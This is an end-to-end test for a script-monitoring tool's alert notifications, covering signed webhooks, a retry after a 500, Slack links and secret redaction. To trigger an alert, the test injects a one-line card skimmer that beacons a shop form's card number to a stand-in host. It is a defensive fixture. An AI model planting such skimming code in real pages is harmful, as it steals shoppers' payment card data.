// E2E: new alerts reach a signed webhook (retried after a 500) and Slack with a link, once each, without leaking secrets.

import assert from 'node:assert/strict';
import { databaseOf, plainSql } from '../fixtures/test-database.js';
import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { join } from 'node:path';
import { baselinedShop, type Scenario } from './scenario.js';
import { APP_JS } from '../fixtures/shop.js';
import { startHttpReceiver, type HttpReceiver } from '../fixtures/receivers.js';

describe('notifications', () => {
  let s: Scenario;
  let receiver: HttpReceiver;
  let base: string;
  let received: HttpReceiver['received'];
  const SECRET = 'whsec-test-5f3a';

  beforeAll(async () => {
    receiver = await startHttpReceiver();
    // The webhook fails once: the delivery must be retried, not lost.
    receiver.failNext(1, '/hook');
    base = receiver.url;
    received = receiver.received;
    s = await baselinedShop({
      extraConfig: `notify:\n  - type: webhook\n    url: ${base}/hook\n    secret: env:SW_WEBHOOK_SECRET\n    minSeverity: medium\n  - type: slack\n    url: ${base}/services/T000/B000/slack-token-xyz\ndashboardUrl: https://scriptwarden.internal.example`,
      env: { SW_WEBHOOK_SECRET: SECRET },
    });
  });
  afterAll(async () => {
    await receiver?.close();
    await s?.close();
  });

  it('posts a signed webhook once per alert, retrying after a 500, and a Slack message with a link', async () => {
    s.site.set('shop.test', '/static/app.js', `${APP_JS}\ndocument.getElementById('pay').addEventListener('mouseup', function () { navigator.sendBeacon('http://shop-stats.test:${s.site.port}/c', document.forms[0].cardnumber.value); });`);
    const { result, json } = await s.scan();
    assert.equal(result.code, 1);
    assert.doesNotMatch(result.stderr, new RegExp(SECRET), 'the secret is never logged');
    assert.doesNotMatch(result.stderr, /slack-token-xyz/, 'the Slack token in the URL is never logged');
    assert.match(result.stderr, /notify: webhook http:\/\/127\.0\.0\.1:\d+ for alert #\d+ failed \(HTTP 500\); retry 1 of 29 in 1 s/);

    const hooks = received.filter((r) => r.path === '/hook');
    const delivered = hooks.filter((r, i) => i > 0 || receiver.failuresLeft === 0);
    const changed = json.alerts.find((a) => a.type === 'script.changed')!;
    const payloads = hooks.map((r) => JSON.parse(r.body) as { event: string; alert: { id: number; severity: string } });
    for (const hook of hooks) {
      const expected = `sha256=${createHmac('sha256', SECRET).update(hook.body).digest('hex')}`;
      assert.equal(hook.headers['x-scriptwarden-signature'], expected);
    }
    assert.ok(payloads.every((p) => p.event === 'alert.opened'));
    assert.ok(payloads.some((p) => p.alert.id === changed.id));
    assert.ok(payloads.every((p) => ['medium', 'high', 'critical'].includes(p.alert.severity)), 'minSeverity filters');
    const ids = payloads.map((p) => p.alert.id);
    assert.equal(new Set(ids).size, ids.length - 1, 'one alert was sent twice: the retry after the 500, nothing else');
    assert.ok(delivered.length >= 1);

    const slack = received.filter((r) => r.path.startsWith('/services/')).map((r) => JSON.parse(r.body) as { text: string });
    assert.ok(slack.some((m) => m.text.includes(`<https://scriptwarden.internal.example/alerts/${changed.id}|alert #${changed.id}>`)), JSON.stringify(slack));

    const again = await s.scan();
    assert.equal(again.result.code, 0);
    assert.equal(received.length, hooks.length + slack.length, 'an alert seen again does not notify again');

    const db = plainSql(databaseOf(s.dir));
    const rows = await db.prepare<[number], { channel: string; status: string; attempts: number }>('SELECT channel, status, attempts FROM notifications WHERE alert_id = ? ORDER BY channel').all(changed.id);
    await db.close();
    assert.deepEqual(rows.map((r) => r.status), ['sent', 'sent'], 'the dashboard shows both deliveries as sent');
    assert.ok(rows.every((r) => !r.channel.includes('slack-token-xyz') && !r.channel.includes(SECRET)));

    // Approving from the command line resolves the alert on the channels that heard it open.
    const before = received.length;
    const approved = await s.cli('approve', String(changed.id), '--note', 'vendor release 4.2', '--by', 'bob');
    assert.equal(approved.code, 0, approved.stderr);
    const told = received.slice(before);
    assert.deepEqual(told.map((r) => r.path.startsWith('/services/') ? 'slack' : 'webhook').sort(), ['slack', 'webhook']);
    const resolved = JSON.parse(told.find((r) => r.path === '/hook')!.body) as { event: string; alert: { id: number; status: string; decidedBy: string } };
    assert.deepEqual([resolved.event, resolved.alert.id, resolved.alert.status, resolved.alert.decidedBy], ['alert.resolved', changed.id, 'approved', 'bob']);
    assert.match((JSON.parse(told.find((r) => r.path !== '/hook')!.body) as { text: string }).text, /^\*RESOLVED\* script\.changed/);
  });

  it('refuses a config whose env: secret is not set, naming the path', async () => {
    const result = await s.cli('scan', '--json');
    assert.notEqual(result.code, 2, 'with the variable set, the config loads');
    const { runCli } = await import('../fixtures/cli.js');
    const bad = await runCli(['alerts'], { cwd: s.dir, env: { SW_WEBHOOK_SECRET: '' } });
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /notify\[0\]\.secret: environment variable SW_WEBHOOK_SECRET is not set/);
  });
});
